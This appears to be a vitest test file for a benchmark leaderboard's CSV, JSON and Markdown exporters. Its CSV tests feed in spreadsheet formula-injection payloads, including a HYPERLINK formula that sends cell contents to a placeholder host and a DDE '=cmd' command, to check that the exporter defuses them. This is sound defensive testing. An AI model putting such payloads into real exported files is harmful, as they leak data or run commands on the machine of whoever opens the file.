/** The leaderboard exports: exact CSV (quoting), JSON and Markdown of a fixed result. */
import { describe, expect, it } from 'vitest';
import { LEADERBOARD_COLUMNS, mdCell, toCsv, toJson, toMarkdown } from '../../../src/core/eval/export-table';
import { csvField, csvText } from '../../../src/core/csv';
import { fixtureResult } from './leaderboard-fixture';

describe('csvField', () => {
  it('quotes only what needs quoting and doubles quotes', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField(' pad')).toBe('" pad"');
    expect(csvField(0.5)).toBe('0.5');
    expect(csvField(NaN)).toBe('');
    expect(csvField(null)).toBe('');
  });
});

describe('csvText', () => {
  it('defuses text a spreadsheet would run as a formula, and leaves numbers and plain text alone', () => {
    expect(csvText('=HYPERLINK("http://x.example/?"&A1,"click")')).toBe(`"'=HYPERLINK(""http://x.example/?""&A1,""click"")"`);
    expect(csvText('+1+2')).toBe("'+1+2");
    expect(csvText('-2+3')).toBe("'-2+3");
    expect(csvText('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvText('\t=1')).toBe("'\t=1");
    expect(csvText('mf-bpr+follow')).toBe('mf-bpr+follow');
    expect(csvText(-0.5)).toBe('-0.5');
    expect(csvText(null)).toBe('');
  });
});

describe('toCsv', () => {
  it('writes a header with interval columns and one exact line per row', () => {
    const lines = toCsv(fixtureResult).split('\r\n');
    expect(lines[0]).toBe(
      'recommender,watch_sec,watch_sec_lo,watch_sec_hi,turns,turns_lo,turns_hi,items_viewed,items_viewed_lo,items_viewed_hi,retention,retention_lo,retention_hi,compliance,verdict,ndcg,recall,diversity,coverage,quadrant,sessions,compliance_passed,compliance_cases,verdict_instructions',
    );
    expect(lines[1]).toBe('popular,120.5,108.25,132.75,3,2.5,3.5,12,10,14,0.5,0.45,0.55,0.125,,0.05,0.2,0.6,0.05,repetitive,10,8,64,0');
    expect(lines[2]).toBe('popular+follow,150.25,139.75,160.75,3,2.5,3.5,12,10,14,0.75,0.73,0.77,0.8125,0.5,0.1235,0.2,0.6,0.1,exploitation,10,52,64,8');
    expect(lines[3]).toBe('');
    expect(lines).toHaveLength(4);
  });

  it("defuses a recommender name that a spreadsheet would run as a formula (a module's name is its author's)", () => {
    const r = { ...fixtureResult, rows: [{ ...fixtureResult.rows[0], recommender: '=cmd|"/c calc"!A1' }] };
    expect(toCsv(r).split('\r\n')[1].startsWith(`"'=cmd|""/c calc""!A1",120.5,`)).toBe(true);
  });

  it('quotes a recommender name holding a comma', () => {
    const r = { ...fixtureResult, rows: [{ ...fixtureResult.rows[0], recommender: 'a,"b"' }] };
    expect(toCsv(r).split('\r\n')[1].startsWith('"a,""b""",120.5,')).toBe(true);
  });
});

describe('one session: no interval', () => {
  // A one-user dataset gives each recommender one session: its "interval" [x, x] claimed a
  // certainty one session cannot give. The view says "one session: no interval"; so do the exports.
  const one = (mean: number) => ({ mean, lo: mean, hi: mean, n: 1 });
  const single = {
    ...fixtureResult,
    rows: [{ ...fixtureResult.rows[0], sessions: 1, watchSec: one(120.5), turns: one(3), itemsViewed: one(12), retention: one(0.5) }, fixtureResult.rows[1]],
  };

  it('CSV: empty _lo/_hi cells for a one-session row (they read back as missing), the others as before', () => {
    const lines = toCsv(single).split('\r\n');
    expect(lines[1]).toBe('popular,120.5,,,3,,,12,,,0.5,,,0.125,,0.05,0.2,0.6,0.05,repetitive,1,8,64,0');
    expect(lines[2]).toBe(toCsv(fixtureResult).split('\r\n')[2]);
  });

  it('Markdown: the mean with "one session: no interval", as the view shows it', () => {
    const md = toMarkdown(single).split('\n');
    expect(md[4]).toBe('| popular | 120.5 (one session: no interval) | 3.00 (one session: no interval) | 12.0 (one session: no interval) | 0.500 (one session: no interval) | 12.5% | – | 0.0500 | 0.2000 | 0.600 | 5.0% | repetitive |');
    expect(md[5]).toBe(toMarkdown(fixtureResult).split('\n')[5]);
  });
});

describe('toJson', () => {
  it('round-trips the result, with NaN as null', () => {
    expect(JSON.parse(toJson(fixtureResult))).toEqual(fixtureResult);
    const nan = { ...fixtureResult, rows: [{ ...fixtureResult.rows[0], ndcg: NaN }] };
    expect(JSON.parse(toJson(nan)).rows[0].ndcg).toBeNull();
  });
});

describe('toMarkdown', () => {
  it('writes the benchmark line and an aligned table of the displayed cells', () => {
    const md = toMarkdown(fixtureResult).split('\n');
    expect(md[0]).toBe(`Benchmark: ${fixtureResult.description}`);
    expect(md[2]).toBe('| Recommender | Watch s | Turns | Items | Retention | Compliance | User verdict | NDCG@10 | Recall@10 | Diversity | Coverage | Quadrant |');
    expect(md[3]).toBe('| --- | ---: | ---: | ---: | ---: | ---: | ---: | ---: | ---: | ---: | ---: | ---: |');
    expect(md[4]).toBe('| popular | 120.5 [108.3, 132.8] | 3.00 [2.50, 3.50] | 12.0 [10.0, 14.0] | 0.500 [0.450, 0.550] | 12.5% | – | 0.0500 | 0.2000 | 0.600 | 5.0% | repetitive |');
    expect(md[5]).toBe('| popular+follow | 150.3 [139.8, 160.8] | 3.00 [2.50, 3.50] | 12.0 [10.0, 14.0] | 0.750 [0.730, 0.770] | 81.3% | 50.0% | 0.1235 | 0.2000 | 0.600 | 10.0% | exploitation |');
    expect(md).toHaveLength(7);
  });

  it('escapes pipes in cells', () => {
    expect(mdCell('a|b')).toBe('a\\|b');
    const r = { ...fixtureResult, rows: [{ ...fixtureResult.rows[0], recommender: 'x|y' }] };
    expect(toMarkdown(r)).toContain('| x\\|y | 120.5');
  });

  it('has as many header cells as columns', () => {
    expect(toMarkdown(fixtureResult).split('\n')[2].split(' | ')).toHaveLength(LEADERBOARD_COLUMNS.length);
  });
});
